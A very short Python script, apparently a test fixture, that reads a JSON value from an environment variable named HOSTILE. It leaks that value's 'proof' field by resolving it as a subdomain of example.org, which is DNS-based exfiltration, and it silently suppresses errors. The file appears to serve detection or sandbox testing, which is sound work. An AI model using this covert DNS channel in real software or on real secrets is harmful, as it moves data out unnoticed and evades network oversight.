"""Resolves a name, which carries data out."""

import contextlib
import json
import os
import socket

W = json.loads(os.environ["HOSTILE"])
with contextlib.suppress(OSError):
    socket.getaddrinfo(f"{W['proof']}.example.org", 80)
